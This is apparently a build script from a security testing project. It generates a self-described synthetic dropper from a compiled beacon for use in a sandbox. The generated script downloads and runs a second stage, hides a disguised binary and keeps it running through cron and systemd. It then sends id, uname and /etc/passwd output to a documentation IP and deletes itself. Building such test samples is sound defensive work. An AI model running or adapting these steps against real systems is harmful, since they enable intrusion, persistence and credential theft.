#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# Writes linux/dropper.sh anew from linux/beacon.c. The result is committed, so that the README's first command works
# before anything is built.
set -eu
cd "$(dirname "$0")/linux"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
clang-19 -Os -ffreestanding -fno-stack-protector -nostdlib -static -fuse-ld=lld-19 -fno-asynchronous-unwind-tables -mgeneral-regs-only \
    -Wl,--build-id=none -Wl,-s --target=x86_64-linux-gnu beacon.c -o "$work/beacon"
payload=$(gzip -9nc "$work/beacon" | base64 -w 76)
cat > dropper.sh <<EOF
#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# A synthetic dropper for tests and demonstrations: harmless, but it does what droppers do. It only speaks to
# documentation addresses (RFC 5737) and example names. Run it in Belljar, not on your machine.
cd /tmp || exit 1

# 1. download a second stage and run it
curl -fsS -o /tmp/.x11-stage http://update.cdn-assets.example/stage2.bin && chmod +x /tmp/.x11-stage && /tmp/.x11-stage

# 2. drop a program of our own and run it from a hidden place
mkdir -p /var/tmp/.cache
base64 -d <<'BLOB' | gzip -d > /var/tmp/.cache/kworkerd
$payload
BLOB
chmod 755 /var/tmp/.cache/kworkerd
/var/tmp/.cache/kworkerd &

# 3. stay: cron and systemd
echo '* * * * * root /var/tmp/.cache/kworkerd' > /etc/cron.d/sysupdate
cat > /etc/systemd/system/sysupdate.service <<'UNIT'
[Unit]
Description=System update helper
[Service]
ExecStart=/var/tmp/.cache/kworkerd
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --now sysupdate.service

# 4. look around and tell home
(id; uname -a; cat /etc/passwd) > /var/tmp/.cache/info
curl -fsS -X POST --data-binary @/var/tmp/.cache/info http://203.0.113.66/gate.php

# 5. leave no trace
rm -f -- "\$0"
wait
EOF
chmod 755 dropper.sh
